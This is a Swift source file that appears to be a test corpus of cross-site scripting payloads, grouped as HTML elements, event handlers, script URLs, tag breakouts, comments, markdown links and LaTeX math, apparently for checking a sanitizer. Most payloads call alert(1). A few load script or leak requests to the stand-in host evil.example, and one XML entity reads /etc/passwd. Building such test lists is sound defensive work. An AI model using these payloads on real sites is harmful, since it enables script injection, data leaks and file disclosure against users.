/// Texts that have run scripts in pages that took them without care, by what they lean on.
enum Attacks {
  static let all = elements + handlers + addresses + ends + comments + markdown + mathematics

  private static let elements = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=//evil.example/x.js></script>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>", "<embed src=javascript:alert(1)>",
    "<base href='javascript:/a/-alert(1)//'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='javascript:alert(1)'>", "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(//evil.example/leak)}</style>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>", "<svg><foreignObject><iframe src=x>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>", "<textarea><img src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<dialog open>x</dialog>",
  ]

  private static let handlers = [
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//", "<img src=x oNeRrOr='alert(1)'>",
    "<img \"\"\"><script>alert(1)</script>\">", "<div onclick=alert(1)>x</div>", "<details ontoggle=alert(1) open>x",
    "<input autofocus onfocus=alert(1)>", "<body onload=alert(1)>", "<span class=x\u{0C}onclick=alert(1)>x</span>",
    "<div style='background:url(javascript:alert(1))'>x</div>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
    "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "` onmouseover=alert(1)",
    "x\" style=\"position:fixed",
    "<sub\tonclick=alert(1)>x</sub>", "<x onclick=alert(1)>x",
  ]

  private static let addresses = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\u{1}javascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "java&#10;script:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", "DATA:text/html,x", "\u{AD}javascript:alert(1)", "file:///etc/passwd",
    "%6Aavascript:alert(1)", "javascript://example.org/%0Aalert(1)", " javascript:alert(1)",
  ]

  private static let ends = [
    "</script><script>alert(1)</script>", "</style><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</svg><script>alert(1)</script>", "</math><img src=x onerror=alert(1)>", "</code></pre><script>alert(1)</script>",
    "</figcaption></figure><script>alert(1)</script>", "</desc></svg><img src=x onerror=alert(1)>",
    "</article></main></body></html><script>alert(1)</script>", "</section></div>", "\\u003c/script>", "${alert(1)}",
  ]

  private static let comments = [
    "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>", "<!--<script>",
    "--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<?xml version='1.0'?><script>x</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{0}<script\u{0}>",
  ]

  private static let markdown = [
    "[x](javascript:alert(1))", "![x](javascript:alert(1))", "[x](https://a.b \"\\\" onclick=\\\"alert(1)\")",
    "![\" onerror=\"alert(1)](x.png)", "<javascript:alert(1)>", "[x][y]", "*x* **y** `z` ~~w~~", "| a | b |", "# x",
    "> x",
    "](javascript:alert(1))", "**](javascript:x)**", "\\<script>", "x\\", "`` ` <script>", "[^1]: x",
    "https://evil.example/",
    "www.evil.example", "a@evil.example",
  ]

  private static let mathematics = [
    "$\\href{javascript:alert(1)}{x}$", "$\\url{javascript:alert(1)}$", "$\\htmlData{onclick=alert(1)}{x}$",
    "$\\htmlStyle{background:url(x)}{x}$", "$\\includegraphics{javascript:alert(1)}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\color{red\" onclick=\"alert(1)}{x}$", "$<img src=x onerror=alert(1)>$",
    "$$\\text{</math><script>alert(1)</script>}$$",
    "$\\unknown{\"><script>alert(1)</script>}$",
  ]
}
